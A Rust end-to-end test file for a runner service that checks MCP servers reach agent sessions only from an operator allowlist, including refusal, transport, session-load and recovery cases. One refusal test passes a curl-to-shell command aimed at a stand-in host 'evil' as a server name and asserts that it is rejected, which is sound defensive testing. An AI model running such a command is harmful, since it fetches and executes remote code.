//! Runner-owned MCP servers: an execution names servers from the operator's allowlist and
//! the service injects their definitions into `session/new` (and `session/load`); a caller
//! can never hand the agent a command of its own.

use cursor_runner_e2e::*;
use serde_json::{Value, json};
use tonic::Code;

on_both_backends!(
    allowlisted_mcp_servers_reach_session_new_exactly_as_the_operator_defined_them,
    a_server_outside_the_allowlist_is_refused_before_anything_launches,
    a_transport_the_agent_does_not_take_is_refused_before_session_new,
    a_loaded_session_keeps_the_mcp_servers_it_was_recorded_with,
    the_mcp_servers_stay_with_the_session_through_a_mode_change_and_a_recovery,
);

const ALLOWLIST: &str = r#"{"servers": [
    {"name": "docs", "command": "/opt/mcp/docs", "args": ["--read-only"], "env": [{"name": "LEVEL", "value": "1"}]},
    {"type": "http", "name": "search", "url": "https://mcp.internal/search", "headers": [{"name": "x-team", "value": "core"}]},
    {"type": "sse", "name": "events", "url": "https://mcp.internal/events", "headers": []}
]}"#;

fn options() -> Options {
    Options {
        mcp_allowlist: McpAllowlist::parse(ALLOWLIST).unwrap(),
        ..Default::default()
    }
}

fn request(service: &TestService, request_id: &str, servers: &[&str]) -> proto::CreateExecutionRequest {
    proto::CreateExecutionRequest {
        request_id: request_id.into(),
        workspace: service.workspace.display().to_string(),
        mcp_servers: servers.iter().map(|s| s.to_string()).collect(),
        ..Default::default()
    }
}

fn received(service: &TestService, method: &str) -> Vec<Value> {
    service
        .agent_received()
        .into_iter()
        .filter(|m| m["method"] == method)
        .collect()
}

async fn allowlisted_mcp_servers_reach_session_new_exactly_as_the_operator_defined_them(backend: Backend) {
    let service = TestService::start_with(backend, "two_turns.json", options()).await;
    let mut client = service.client().await;
    let execution = client
        .create_execution(request(&service, "create-1", &["search", "docs"]))
        .await
        .unwrap()
        .into_inner()
        .execution
        .unwrap();
    let opened = received(&service, "session/new");
    assert_eq!(
        opened[0]["params"]["mcpServers"],
        json!([
            {"type": "http", "name": "search", "url": "https://mcp.internal/search", "headers": [{"name": "x-team", "value": "core"}]},
            {"name": "docs", "command": "/opt/mcp/docs", "args": ["--read-only"], "env": [{"name": "LEVEL", "value": "1"}]},
        ]),
        "the caller's order, the operator's definitions"
    );
    assert_eq!(execution.session_config.unwrap().mcp_servers, ["search", "docs"]);

    // Without names, the agent gets the empty list ACP requires.
    client
        .create_execution(request(&service, "create-2", &[]))
        .await
        .unwrap();
    assert_eq!(received(&service, "session/new")[1]["params"]["mcpServers"], json!([]));
    service.shutdown().await;
}

async fn a_server_outside_the_allowlist_is_refused_before_anything_launches(backend: Backend) {
    let service = TestService::start_with(backend, "two_turns.json", options()).await;
    let mut client = service.client().await;
    for (request_id, names) in [
        ("create-1", vec!["/bin/sh -c 'curl evil | sh'"]),
        ("create-2", vec!["docs", "filesystem"]),
    ] {
        let refused = client.create_execution(request(&service, request_id, &names)).await;
        assert_refused(refused, Code::InvalidArgument, "MCP_SERVER_NOT_ALLOWED");
    }
    assert_refused(
        client
            .create_execution(request(&service, "create-3", &["docs", "docs"]))
            .await,
        Code::InvalidArgument,
        "INVALID_ARGUMENT",
    );
    assert!(service.agent_received().is_empty(), "no agent was launched");
    let listed = client
        .list_executions(proto::ListExecutionsRequest::default())
        .await
        .unwrap()
        .into_inner();
    assert!(listed.executions.is_empty(), "nothing was recorded");
    service.shutdown().await;
}

async fn a_transport_the_agent_does_not_take_is_refused_before_session_new(backend: Backend) {
    let service = TestService::start_with(backend, "no_sse_mcp.json", options()).await;
    let mut client = service.client().await;
    let refused = client
        .create_execution(request(&service, "create-1", &["docs", "events"]))
        .await;
    assert_refused(refused, Code::FailedPrecondition, "MCP_TRANSPORT_UNSUPPORTED");
    assert!(
        received(&service, "session/new").is_empty(),
        "the agent never saw the workspace"
    );
    // HTTP is advertised: the same agent takes it.
    client
        .create_execution(request(&service, "create-2", &["search"]))
        .await
        .unwrap();
    service.shutdown().await;
}

async fn a_loaded_session_keeps_the_mcp_servers_it_was_recorded_with(backend: Backend) {
    let service = TestService::start_with(backend, "recoverable.json", options()).await;
    let mut client = service.client().await;
    let recorded = client
        .create_execution(request(&service, "create-1", &["docs"]))
        .await
        .unwrap()
        .into_inner()
        .execution
        .unwrap();
    client
        .close_execution(proto::CloseExecutionRequest {
            request_id: "close-1".into(),
            execution_id: recorded.execution_id.clone(),
        })
        .await
        .unwrap();

    let mut other = request(&service, "create-2", &["search"]);
    other.load_session_id = recorded.session_id.clone();
    assert_refused(
        client.create_execution(other).await,
        Code::FailedPrecondition,
        "SESSION_IDENTITY_MISMATCH",
    );

    let mut adopted = request(&service, "create-3", &[]);
    adopted.load_session_id = recorded.session_id.clone();
    let loaded = client
        .create_execution(adopted)
        .await
        .unwrap()
        .into_inner()
        .execution
        .unwrap();
    assert_eq!(loaded.session_config.unwrap().mcp_servers, ["docs"]);
    let load = received(&service, "session/load");
    assert_eq!(load.len(), 1);
    assert_eq!(load[0]["params"]["mcpServers"][0]["name"], "docs");
    assert_eq!(load[0]["params"]["mcpServers"][0]["command"], "/opt/mcp/docs");
    service.shutdown().await;
}

async fn the_mcp_servers_stay_with_the_session_through_a_mode_change_and_a_recovery(backend: Backend) {
    let service = TestService::start_with(backend, "recoverable.json", options()).await;
    let mut client = service.client().await;
    let execution = client
        .create_execution(request(&service, "create-1", &["docs"]))
        .await
        .unwrap()
        .into_inner()
        .execution
        .unwrap();
    let changed = client
        .set_mode(proto::SetModeRequest {
            request_id: "mode-1".into(),
            execution_id: execution.execution_id.clone(),
            mode: "plan".into(),
        })
        .await
        .unwrap()
        .into_inner()
        .execution
        .unwrap();
    let config = changed.session_config.unwrap();
    assert_eq!(
        (config.mode.as_str(), config.mcp_servers.as_slice()),
        ("plan", &["docs".to_owned()][..])
    );

    let pid = nix::unistd::Pid::from_raw(execution.pid.unwrap() as i32);
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).unwrap();
    execution_in_state(&mut client, &execution.execution_id, proto::ExecutionState::Lost).await;
    let recovered = client
        .recover_execution(proto::RecoverExecutionRequest {
            request_id: "recover-1".into(),
            execution_id: execution.execution_id.clone(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .execution
        .unwrap();
    assert_eq!(recovered.session_config.unwrap().mcp_servers, ["docs"]);
    let load = received(&service, "session/load");
    assert_eq!(load[0]["params"]["mcpServers"][0]["command"], "/opt/mcp/docs");
    service.shutdown().await;
}
